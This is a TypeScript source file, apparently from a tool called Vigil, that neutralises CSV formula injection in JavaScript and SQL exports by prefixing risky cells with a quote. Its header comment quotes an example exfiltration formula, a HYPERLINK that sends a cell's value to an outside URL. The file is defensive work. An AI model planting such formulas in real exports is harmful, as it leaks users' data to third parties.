/**
 * CSV formula injection (OWASP "CSV Injection"): a spreadsheet opening a CSV runs a cell that begins
 * with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://…?x="&A1,"open")`), and one that begins
 * with a tab or carriage return once it strips them. Every text cell Vigil writes to a CSV goes
 * through this rule: such a cell gets a leading single quote, which spreadsheets read as "this is
 * text" (and do not show), so the value stays readable. Leading whitespace does not hide the
 * character (` =1+1` is quoted too). Numeric columns are left as they are (a number is not a formula).
 *
 * The rule exists twice, once for JavaScript (the event export's cells) and once as SQL (the alert
 * export's cells, which the database builds on both database kinds), written from the same pattern.
 */

/** Whitespace a spreadsheet may skip before the first character (ASCII whitespace and NBSP). */
const SPACES = '\t\n\v\f\r \u00a0';
/** Characters that start a formula (`-` last: literal in a bracket expression). */
const FORMULA = '=+@-';
/** `\uXXXX` escapes, read alike by JavaScript's and PostgreSQL's regular expressions. */
const escaped = (chars: string) => [...chars].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
/** A cell start that is read as a formula (the pattern's source, shared by the JS and SQL forms). */
const FORMULA_START = `[${escaped(SPACES)}]*[${FORMULA}]|[${escaped('\t\r')}]`;
/** The characters such a start begins with, for a cheap test before the pattern runs (SQL). */
const FIRST_CODES = [...SPACES, ...FORMULA].map((c) => c.charCodeAt(0)).join(', ');
const FIRST_CLASS = `[${escaped(SPACES)}${FORMULA}]`;

const CELL = new RegExp(`^(?:${FORMULA_START})`);

/** One text cell, made safe: a leading `'` when it would start a formula. */
export function spreadsheetCell(value: string): string {
  return CELL.test(value) ? `'${value}` : value;
}

// The SQL forms run the replacement only on values that may need it. 1M rows, COPY to /dev/null:
// regexp_replace on every value of one text and one list column took ~0.8 s to ~2.1 s; the
// first-character test costs nothing measurable; the list's match-first costs ~0.7 s per list column.

/** `spreadsheetCell` as a SQL expression over a text expression (NULL stays NULL). */
export function spreadsheetCellSql(expression: string): string {
  return `CASE WHEN ascii(${expression}) IN (${FIRST_CODES}) THEN regexp_replace(${expression}, '^(${FORMULA_START})', '''\\1') ELSE ${expression} END`;
}

/** `spreadsheetList` as a SQL expression over a text expression already joined with `;`. */
export function spreadsheetListSql(joined: string): string {
  return `CASE WHEN ${joined} ~ '(^|;)${FIRST_CLASS}' THEN regexp_replace(${joined}, '(^|;)(${FORMULA_START})', '\\1''\\2', 'g') ELSE ${joined} END`;
}
